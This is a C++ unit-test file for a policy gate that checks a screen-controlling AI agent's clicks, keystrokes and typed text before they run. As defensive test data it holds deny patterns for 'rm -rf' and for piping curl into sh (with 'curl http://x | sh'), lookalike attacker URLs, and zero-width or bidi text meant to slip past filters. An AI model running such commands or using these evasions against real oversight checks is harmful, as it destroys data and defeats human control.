// SPDX-License-Identifier: Apache-2.0
// The gate, rule by rule, without a screen and without a model.
#include "actions/parse.h"
#include "agent/policy_gate.h"

#include <gtest/gtest.h>

namespace handeye {
namespace {

constexpr Size kScreen{800, 600};

WindowInfo window(const std::string& name, const std::string& url = "") {
    WindowInfo info;
    info.id = 7;
    info.title_utf8 = name + " - window";
    info.window_class = name;
    info.app = name;
    info.url = url;
    info.is_focused = true;
    return info;
}

ActionFacts facts(const std::string& action_json, std::optional<std::vector<WindowInfo>> windows = {}, const std::vector<Element>& elements = {}) {
    const auto action = parse_action(action_json);
    EXPECT_TRUE(action) << action.error().message;
    const auto plan = resolve(*action, {kScreen, kScreen, {}});
    EXPECT_TRUE(plan) << plan.error().message;
    ActionFacts out = facts_of(*action, *plan, elements, WallTime{});
    out.windows = std::move(windows);
    return out;
}

PolicyGate gate(const std::string& policy_json) {
    const auto policy = policy_from_json(policy_json);
    EXPECT_TRUE(policy) << policy.error().message;
    auto made = PolicyGate::create(*policy);
    EXPECT_TRUE(made);
    return *std::move(made);
}

Gate decide(const std::string& policy_json, const ActionFacts& of) { return gate(policy_json).decide(of).gate; }

std::string one(const std::string& rule, const std::string& otherwise = "allow") {
    return R"({"rules":[{"name":"r",)" + rule + R"(}],"otherwise":")" + otherwise + R"("})";
}

const char* const kClick = R"({"verb":"click","x":100,"y":100,"units":"pixels"})";

TEST(PolicyGate, EveryPointOfADragMustLieInAnAllowedRegion) {
    const std::string inside = one(R"("effect":"allow","region":{"x":0,"y":0,"width":400,"height":600})", "deny");
    const auto to = [&](int x) { return facts(R"({"verb":"drag","x":10,"y":10,"to_x":)" + std::to_string(x) + R"(,"to_y":20,"units":"pixels"})"); };
    EXPECT_EQ(decide(inside, to(300)), Gate::Allow);
    EXPECT_EQ(decide(inside, to(500)), Gate::Deny);
    const std::string outside = one(R"("effect":"deny","region":{"x":0,"y":0,"width":400,"height":600,"outside":true})");
    EXPECT_EQ(decide(outside, to(300)), Gate::Allow);
    EXPECT_EQ(decide(outside, to(500)), Gate::Deny);
}

TEST(PolicyGate, AClickIsHeldAgainstTheTextOfWhatItClicks) {
    const std::string money = one(R"("effect":"deny","text":["(?i)pay|send"])");
    Element pay;
    pay.mark = 1;
    pay.role = "push button";
    pay.label_utf8 = "Pay now";
    pay.box = {80, 90, 60, 20};
    EXPECT_EQ(decide(money, facts(kClick, {}, {pay})), Gate::Deny);
    EXPECT_EQ(decide(money, facts(R"({"verb":"drag","x":10,"y":10,"to_x":100,"to_y":100,"units":"pixels"})", {}, {pay})), Gate::Deny);
    EXPECT_EQ(decide(money, facts(R"({"verb":"hover","x":100,"y":100,"units":"pixels"})", {}, {pay})), Gate::Allow);
    EXPECT_EQ(decide(money, facts("left_click(start_box='[100,100]', element_info='Send')")), Gate::Deny) << "as the model calls it, where no program tells";
    EXPECT_EQ(decide(money, facts(R"({"verb":"type","text":"x","x":100,"y":100,"units":"pixels"})", {}, {pay})), Gate::Deny) << "typing into it clicks it";
    pay.label_utf8 = "Cancel";
    EXPECT_EQ(decide(money, facts(kClick, {}, {pay})), Gate::Allow);
    EXPECT_EQ(decide(money, facts(kClick)), Gate::Allow) << "nobody tells what is clicked: other rules are for that";
    const std::string only = one(R"("effect":"allow","text":["^Cancel$"])", "deny");
    EXPECT_EQ(decide(only, facts(kClick, {}, {pay})), Gate::Allow);
    EXPECT_EQ(decide(only, facts(kClick)), Gate::Deny);
    EXPECT_EQ(decide(only, facts("left_click(start_box='[100,100]', element_info='Cancel')")), Gate::Deny) << "the model's word allows nothing";
}

TEST(PolicyGate, WhatTheModelItselfMarksIsAskedFor) {
    const ActionFacts marked = facts(R"(do(action="Tap", element=[500,500], message="pays 20 euros"))");
    const GateDecision asked = gate(R"({"otherwise":"allow"})").decide(marked);
    EXPECT_EQ(asked.gate, Gate::Ask);
    EXPECT_NE(asked.reason.find("pays 20 euros"), std::string::npos) << asked.reason;
    EXPECT_EQ(decide(R"({"deny_verbs":["click"]})", marked), Gate::Deny) << "it loosens nothing";
    EXPECT_EQ(decide(R"({"otherwise":"deny"})", marked), Gate::Deny);
    EXPECT_EQ(decide(R"({"otherwise":"allow"})", facts(R"(do(action="Tap", element=[500,500]))")), Gate::Allow);
    EXPECT_EQ(risk_of(marked.action), "high");
}

TEST(PolicyGate, AFingersWayIsADragWhereSomethingIsDenied) {
    const ActionFacts way = facts(R"(do(action="Swipe", start=[100,800], end=[100,200]))");
    EXPECT_EQ(decide(R"({"deny_verbs":["drag"]})", way), Gate::Deny);
    EXPECT_EQ(decide(R"({"deny_verbs":["swipe"]})", way), Gate::Deny);
    EXPECT_EQ(decide(R"({"allow_verbs":["drag"]})", way), Gate::Deny) << "drag allows no swipe";
    EXPECT_EQ(decide(R"({"allow_verbs":["swipe"]})", way), Gate::Allow);
    EXPECT_EQ(decide(one(R"("effect":"ask","verbs":["drag"])"), way), Gate::Ask);
    EXPECT_EQ(decide(one(R"("effect":"allow","verbs":["drag"])", "deny"), way), Gate::Deny);
    EXPECT_EQ(decide(R"({"deny_verbs":["drag"]})", facts(R"({"verb":"swipe","direction":"up"})")), Gate::Allow) << "the wheel turns, nothing is pressed";
    EXPECT_EQ(decide(one(R"("effect":"deny","region":{"x":0,"y":0,"width":800,"height":150})"), way), Gate::Deny) << "its end lies there";
}

TEST(PolicyGate, TextIsHeldAgainstRulesAsAPersonSeesIt) {
    const auto clicks = [](const std::string& label) {
        Element element;
        element.mark = 1;
        element.role = "push button";
        element.label_utf8 = label;
        element.box = {90, 90, 40, 40};
        return facts(kClick, {}, {element});
    };
    const std::string composed = "L\xC3\xB6schen", decomposed = "Lo\xCC\x88schen";
    for (const std::string& pattern : {composed, decomposed}) {
        const std::string rule = one(R"("effect":"deny","text":["^)" + pattern + R"($"])");
        for (const std::string& label : {composed, decomposed, "L\xE2\x80\x8B" + decomposed.substr(1), "\xE2\x80\xAE" + composed + "\xE2\x80\xAC"}) {
            EXPECT_EQ(decide(rule, clicks(label)), Gate::Deny) << pattern << " " << label;
        }
        EXPECT_EQ(decide(rule, clicks("Loschen")), Gate::Allow);
    }
    const std::string rule = one(R"("effect":"deny","text":["Delete"])");
    for (const char* const label : {"Del\xE2\x80\x8B" "ete", "De\xC2\xADlete", "\xEF\xBC\xA4\xEF\xBD\x85lete", "D\xE2\x81\xA0\xEF\xBB\xBF" "elete"}) {
        EXPECT_EQ(decide(rule, clicks(label)), Gate::Deny) << label;
    }
    EXPECT_EQ(decide(rule, facts(R"({"verb":"type","text":"Del\u200Bete"})")), Gate::Deny);
    EXPECT_EQ(decide(one(R"("effect":"deny","text":["a\uff0ab"])"), clicks("a*b")), Gate::Deny) << "a sign of its own, and no operator";
    EXPECT_EQ(decide(one(R"("effect":"deny","text":["a\uff0ab"])"), clicks("aab")), Gate::Allow);
    EXPECT_EQ(decide(one(R"("effect":"deny","titles":["Del\u200Bete*"])"), facts(kClick, {{window("De\xC2\xADlete")}})), Gate::Deny);
    for (const std::string& odd : {std::string("De\u200Blete\xFF"), std::string("De\u200Blete\0x", 11), std::string("Del\u2800ete\uFFFC")}) { // one odd byte hides nothing
        EXPECT_EQ(decide(one(R"("effect":"deny","titles":["Delete*"])"), facts(kClick, {{window(odd)}})), Gate::Deny) << odd;
    }
    EXPECT_EQ(decide(one(R"("effect":"allow","domains":["a.example"])", "deny"), facts(kClick, {{window("w", "https://a.ex\xE2\x80\x8B" "ample/")}})), Gate::Deny) << "a host is no text to look at";
}

TEST(PolicyGate, WindowsAreMatchedByClassTitleAndProgram) {
    EXPECT_EQ(decide(one(R"("effect":"deny","window_classes":["XTerm"])"), facts(kClick, {{window("xterm")}})), Gate::Deny);
    EXPECT_EQ(decide(one(R"("effect":"deny","window_classes":["XTerm"])"), facts(kClick, {{window("gedit")}})), Gate::Allow);
    EXPECT_EQ(decide(one(R"("effect":"allow","titles":["*gedit*"])", "deny"), facts(kClick, {{window("gedit")}})), Gate::Allow);
    EXPECT_EQ(decide(one(R"("effect":"allow","apps":["ged*"])", "deny"), facts(kClick, {{window("gedit"), window("xterm")}})), Gate::Deny);
}

TEST(PolicyGate, WhatIsUnknownIsNeverAllowedAndAlwaysDenied) {
    EXPECT_EQ(decide(one(R"("effect":"allow","window_classes":["gedit"])", "deny"), facts(kClick)), Gate::Deny);
    EXPECT_EQ(decide(one(R"("effect":"deny","window_classes":["gedit"])"), facts(kClick)), Gate::Deny);
    EXPECT_EQ(decide(one(R"("effect":"allow","domains":["example.org"])", "deny"), facts(kClick, {{window("browser")}})), Gate::Deny);
    EXPECT_EQ(decide(one(R"("effect":"ask","domains":["example.org"])"), facts(kClick, {{window("browser")}})), Gate::Ask);
}

TEST(PolicyGate, ADomainIsTheHostAndNothingThatLooksLikeIt) {
    const std::string rule = one(R"("effect":"allow","domains":["example.org","*.example.org"])", "deny");
    const auto at = [&](const std::string& url) { return decide(rule, facts(kClick, {{window("browser", url)}})); };
    EXPECT_EQ(at("https://example.org/x"), Gate::Allow);
    EXPECT_EQ(at("https://WWW.example.org:8443/"), Gate::Allow);
    EXPECT_EQ(at("https://example.org.evil.test/"), Gate::Deny);
    EXPECT_EQ(at("https://example.org@evil.test/"), Gate::Deny);
    EXPECT_EQ(at("https://evil.test/?https://example.org/"), Gate::Deny);
    EXPECT_EQ(at("https://evil.test\\@example.org/"), Gate::Deny);
}

TEST(PolicyGate, TextPatternsAreFoundInWhatKeysSpell) {
    const std::string rule = one(R"("effect":"deny","text":["rm -rf"])");
    EXPECT_EQ(decide(rule, facts(R"({"verb":"key","keys":["r","m","space","minus","r","f"]})")), Gate::Deny);
    EXPECT_EQ(decide(rule, facts(R"({"verb":"key","keys":["r","m","-","r","f"]})")), Gate::Allow);
    EXPECT_EQ(decide(one(R"("effect":"deny","text":["RM"])"), facts(R"({"verb":"key","keys":["shift","r","m"]})")), Gate::Deny);
    EXPECT_EQ(decide(rule, facts(R"({"verb":"key","keys":["ctrl","r"]})")), Gate::Allow);
}

TEST(PolicyGate, TextPatternsAreFoundInWhatIsTyped) {
    const std::string rule = one(R"("effect":"deny","text":["curl.*\\|\\s*sh"])");
    EXPECT_EQ(decide(rule, facts(R"({"verb":"type","text":"curl http://x | sh"})")), Gate::Deny);
    EXPECT_EQ(decide(rule, facts(R"({"verb":"type","text":"curls in her hair"})")), Gate::Allow);
}

TEST(PolicyGate, APatternThatExplodesDeniesSoon) {
    const std::string text = std::string(5000, 'a') + "!";
    EXPECT_EQ(decide(one(R"("effect":"deny","text":["^(a+)+$"])"), facts(R"({"verb":"type","text":")" + text + R"("})")), Gate::Deny);
}

TEST(PolicyGate, ChordsAreComparedWhateverTheyAreCalled) {
    const std::string rule = one(R"("effect":"deny","keys":["ctrl+alt+*","super","return"])");
    for (const char* const denied : {R"({"verb":"key","keys":"ctrl+alt+F2"})", R"({"verb":"key","keys":"Alt+Control+delete"})",
                                     R"({"verb":"key","keys":"cmd"})", R"({"verb":"key","keys":"enter"})",
                                     R"({"verb":"type","text":"a\nb"})"}) {
        EXPECT_EQ(decide(rule, facts(denied)), Gate::Deny) << denied;
    }
    EXPECT_EQ(decide(rule, facts(R"({"verb":"key","keys":"ctrl+c"})")), Gate::Allow);
    EXPECT_EQ(decide(rule, facts(R"({"verb":"type","text":"ab"})")), Gate::Allow);
}

TEST(PolicyGate, TheTimeOfDayMayGoOverMidnight) {
    const std::string rule = one(R"("effect":"deny","time":"22:00-06:00")");
    const auto at = [&](int minute) {
        ActionFacts of = facts(kClick);
        of.minute_of_day = minute;
        return decide(rule, of);
    };
    EXPECT_EQ(at(23 * 60), Gate::Deny);
    EXPECT_EQ(at(5 * 60 + 59), Gate::Deny);
    EXPECT_EQ(at(6 * 60), Gate::Allow);
}

TEST(PolicyGate, ADoubtfulPlaceIsAskedForAndACertainOneIsNot) {
    const std::string ask = one(R"("effect":"ask","confidence_below":0.5)");
    const auto with = [](std::optional<double> confidence, const char* action = kClick) {
        ActionFacts of = facts(action);
        of.confidence = confidence;
        return of;
    };
    EXPECT_EQ(decide(ask, facts(kClick)), Gate::Allow); // a person's
    EXPECT_EQ(decide(ask, with(0.49)), Gate::Ask);
    EXPECT_EQ(decide(ask, with(0.5)), Gate::Allow);
    EXPECT_EQ(decide(ask, with({})), Gate::Ask); // nobody knows
    EXPECT_EQ(decide(ask, with({}, R"({"verb":"type","text":"x"})")), Gate::Allow); // goes nowhere
    EXPECT_EQ(decide(one(R"("effect":"deny","verbs":["drag"],"confidence_below":0.5)"), with(0.1)), Gate::Allow);
    EXPECT_EQ(policy_to_json(*policy_from_json(ask)), policy_to_json(*policy_from_json(policy_to_json(*policy_from_json(ask)))));
    EXPECT_NE(policy_to_json(*policy_from_json(ask)).find("\"confidence_below\":0.5"), std::string::npos);
}

TEST(PolicyGate, ARuleMatchesItsCountAndNoMore) {
    PolicyGate counted = gate(one(R"("effect":"allow","max_count":2)", "deny"));
    EXPECT_EQ(counted.explain(facts(kClick)).gate, Gate::Allow);
    EXPECT_EQ(counted.decide(facts(kClick)).gate, Gate::Allow);
    EXPECT_EQ(counted.decide(facts(kClick)).gate, Gate::Allow);
    EXPECT_EQ(counted.decide(facts(kClick)).gate, Gate::Deny);
}

TEST(PolicyGate, TheFirstRuleThatMatchesDecides) {
    const std::string rules = R"({"rules":[{"name":"a","effect":"ask","verbs":["click"]},{"name":"b","effect":"deny"}]})";
    EXPECT_EQ(decide(rules, facts(kClick)), Gate::Ask);
    EXPECT_EQ(gate(rules).decide(facts(R"({"verb":"type","text":"x"})")).rule, "rule 2: b");
}

TEST(PolicyGate, OfNestedPoliciesTheStrictestCounts) {
    Policy outer;
    outer.deny_verbs = {"click"};
    Policy inner;
    inner.rules.push_back({.name = "all", .effect = Effect::Allow});
    auto both = PolicyGate::create(narrowed(outer, inner));
    ASSERT_TRUE(both);
    EXPECT_EQ(both->decide(facts(kClick)).gate, Gate::Deny);
}

class WrongPolicy : public testing::TestWithParam<std::pair<const char*, const char*>> {};

TEST_P(WrongPolicy, IsRefusedNamingRuleAndField) {
    const auto policy = policy_from_json(GetParam().first);
    ASSERT_FALSE(policy);
    EXPECT_NE(policy.error().message.find(GetParam().second), std::string::npos) << policy.error().message;
}

INSTANTIATE_TEST_SUITE_P(
    Policies, WrongPolicy,
    testing::Values(std::pair{R"({"allow":[]})", "\"allow\""}, std::pair{R"({"otherwise":"maybe"})", "otherwise"},
                    std::pair{R"({"deny_verbs":["teleport"]})", "deny_verbs"},
                    std::pair{R"({"rules":[{"name":"a"}]})", "rule 1 (\"a\").effect"},
                    std::pair{R"({"rules":[{"effect":"deny"}]})", ".name"},
                    std::pair{R"({"rules":[{"name":"a","effect":"deny","verbs":["fly"]}]})", "rule 1 (\"a\").verbs"},
                    std::pair{R"({"rules":[{"name":"a","effect":"deny","text":["("]}]})", "rule 1 (\"a\").text"},
                    std::pair{R"({"rules":[{"name":"a","effect":"deny","keys":["ctrl+nokey"]}]})", "rule 1 (\"a\").keys"},
                    std::pair{R"({"rules":[{"name":"a","effect":"deny","time":"8-9"}]})", "rule 1 (\"a\").time"},
                    std::pair{R"({"rules":[{"name":"a","effect":"deny","region":{"x":1,"y":1,"width":0,"height":1}}]})", ".region"},
                    std::pair{R"({"rules":[{"name":"a","effect":"deny","max_count":2}]})", ".max_count"},
                    std::pair{R"({"rules":[{"name":"a","effect":"allow","confidence_below":0.5}]})", ".confidence_below"},
                    std::pair{R"({"rules":[{"name":"a","effect":"ask","confidence_below":1.5}]})", ".confidence_below"},
                    std::pair{R"({"rules":[{"name":"a","effect":"ask","confidence_below":"low"}]})", ".confidence_below"},
                    std::pair{R"({"rules":[{"name":"a","effect":"deny","domains":["http://x"]}]})", ".domains"}));

TEST(PolicyJson, IsReadAsItWasWritten) {
    const std::string text = R"({"allow_verbs":["click"],"rules":[{"name":"a","effect":"ask","apps":["x"],"keys":["ctrl+*"],"max_count":3,)"
                             R"("region":{"x":1,"y":2,"width":3,"height":4,"outside":true},"time":"08:00-18:30"}],"otherwise":"deny"})";
    const auto once = policy_from_json(text);
    ASSERT_TRUE(once) << once.error().message;
    const auto twice = policy_from_json(policy_to_json(*once));
    ASSERT_TRUE(twice) << twice.error().message;
    EXPECT_EQ(policy_to_json(*once), policy_to_json(*twice));
    EXPECT_EQ(twice->rules[0].time->to_minute, 18 * 60 + 30);
}

} // namespace
} // namespace handeye
